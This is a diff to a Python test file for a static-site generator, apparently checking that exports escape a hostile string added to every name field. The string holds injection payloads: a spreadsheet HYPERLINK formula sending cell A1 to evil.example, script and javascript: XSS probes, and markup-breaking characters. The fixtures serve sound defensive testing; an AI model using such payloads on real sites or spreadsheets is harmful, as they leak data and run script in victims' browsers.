@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 import shutil
 from pathlib import Path
@@ -13,14 +14,17 @@ from storysite.exports.record_json import write_items
 from storysite.exports.tables import write_data
 from storysite.pages.markdown_pages import write_twins
 from storysite.project import Project
+from storysite.records.field_types import LONGEST_WORDS
 from tests.conftest import ROOT
 from tests.projects import make, read
 
 HOSTILE = (
     '=HYPERLINK("https://evil.example/?"&A1,"x") <script>alert(1)</script> </text></svg> [x](javascript:alert(1)) '
-    "![p](https://evil.example/p.png) | # * _ ` ~ \\\\ $ % ^ & ' ; BEGIN:VEVENT , ]]> --> https://evil.example"
+    "![p](https://evil.example/p.png) | # * _ ` ~ \\ $ % ^ & ' ; BEGIN:VEVENT , ]]> --> https://evil.example"
 )
-NAMES = re.compile(r"^(?P<key>\s*(?:- )?(?:title|name|corner|unit|basis|publisher)): (?P<value>[^>\n]+)$", re.MULTILINE)
+NAMES = re.compile(
+    r"^(?P<key>\s*(?:- )?(?:title|name|corner|unit|basis|publisher|alt)): (?P<value>[^>\n]+)$", re.MULTILINE
+)
 MAKERS = (write_items, write_data, write_twins, write_calendar, write_pictures, write_slides)
 
 
@@ -28,14 +32,19 @@ def hostile_project(folder: Path) -> Project:
     """The base project with a hostile text in front of every name."""
     root = make({}, folder)
     shutil.copytree(ROOT / "docs" / "assets", root / "docs" / "assets")
-    quoted = HOSTILE.replace('"', '\\"')
     for path in sorted((root / "docs" / "data").glob("*.yml")):
         text = path.read_text(encoding="utf-8")
         path.write_text(
-            NAMES.sub(lambda match: f'{match["key"]}: "{quoted} {match["value"].strip(chr(34))}"', text),
+            NAMES.sub(
+                lambda match: f"{match['key']}: {json.dumps(hostile_words(match['value'].strip(chr(34))))}", text
+            ),
             encoding="utf-8",
         )
     return read(root)
+
+
+def hostile_words(value: str) -> str:
+    return f"{HOSTILE} {value}"[:LONGEST_WORDS]
 
 
 def taken_away(project: Project, site: Path) -> Path:
